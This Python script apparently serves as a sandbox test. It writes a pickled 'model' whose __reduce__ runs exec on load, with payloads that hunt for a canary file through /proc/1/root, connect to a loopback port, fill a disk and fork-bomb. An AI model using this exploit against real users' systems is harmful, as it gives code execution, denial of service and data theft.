# SPDX-License-Identifier: Apache-2.0
"""Make a model file that attacks whoever loads it: hostile.py MODEL.pkl

The attack happens while the file is unpickled, before any "model" exists. The
variable ATTACK selects one of four. Each says in one line what it got and
ends with status SUCCEEDED or FAILED; but that is only what it says. Who runs
it judges by what the host itself saw.

  read     search for the file CANARY names, there and wherever it may hide
  connect  call the TCP port PORT on this machine's loopback addresses
  fill     write to the folder FOLDER until there is no more room
  fork     start processes until the system refuses

They are bounded so that a mistake outside a virtual machine hurts nobody: at
most 256 MiB are written and 1,000 processes started.
"""

import pickle
import sys

# What runs at the victim's. Text, because a pickle carries no code objects.
PAYLOAD = r'''
import os, socket, sys, time

SUCCEEDED, FAILED = 10, 11


def hiding_places(path):
    yield path
    for top in ("/root", "/home", "/mnt", "/media", "/srv", "/tmp", "/var/tmp",
                "/run", "/proc/1/root/tmp", "/proc/1/cwd"):
        for folder, _, files in os.walk(top):
            if os.path.basename(path) in files:
                yield os.path.join(folder, os.path.basename(path))


def attack_read():
    for place in hiding_places(os.environ["CANARY"]):
        try:
            with open(place) as file:
                return SUCCEEDED, "read " + file.read(200)
        except OSError as error:
            last = error.strerror
    return FAILED, "found no such file (%s)" % last


def attack_connect():
    port = int(os.environ["PORT"])
    for family, host in ((socket.AF_INET, "127.0.0.1"),
                         (socket.AF_INET6, "::1")):
        try:
            with socket.socket(family, socket.SOCK_STREAM) as link:
                link.settimeout(3)
                link.connect((host, port))
                link.sendall(b"stolen goods")
                return SUCCEEDED, "reached %s port %d" % (host, port)
        except OSError as error:
            last = error.strerror or str(error)
    return FAILED, "no connection (%s)" % last


def attack_fill():
    folder = os.environ["FOLDER"]
    block, written = b"x" * 65536, 0
    try:
        os.makedirs(folder, exist_ok=True)
    except OSError:
        folder = os.getcwd()
    try:
        with open(os.path.join(folder, "filling"), "wb", 0) as file:
            while written < 256 << 20:
                file.write(block)
                written += len(block)
                if written % (4 << 20) == 0:
                    os.fsync(file.fileno())
    except OSError as error:
        return SUCCEEDED, "full after %d MiB (%s)" % (written >> 20,
                                                      error.strerror)
    return FAILED, "wrote %d MiB and gave up" % (written >> 20)


def attack_fork():
    count = 0
    try:
        while count < 1000:
            if os.fork() == 0:
                os.closerange(0, 3)  # nobody shall wait for our output
                time.sleep(20)
                os._exit(0)
            count += 1
    except OSError as error:
        time.sleep(3)
        return SUCCEEDED, "%d processes (%s)" % (count, error.strerror)
    return FAILED, "%d processes and gave up" % count


name = os.environ.get("ATTACK", "")
status, text = {"read": attack_read, "connect": attack_connect,
                "fill": attack_fill, "fork": attack_fork}[name]()
print("attack %s: %s" % (name, text), flush=True)
os._exit(status)
'''


class Weights:
    """Looks like a model in a listing; unpickling it calls exec."""

    def __reduce__(self):
        return exec, (PAYLOAD, {})


def main():
    if len(sys.argv) != 2:
        sys.exit("usage: hostile.py MODEL.pkl")
    with open(sys.argv[1], "wb") as file:
        pickle.dump({"hidden": Weights(), "output": 0}, file)


if __name__ == "__main__":
    main()
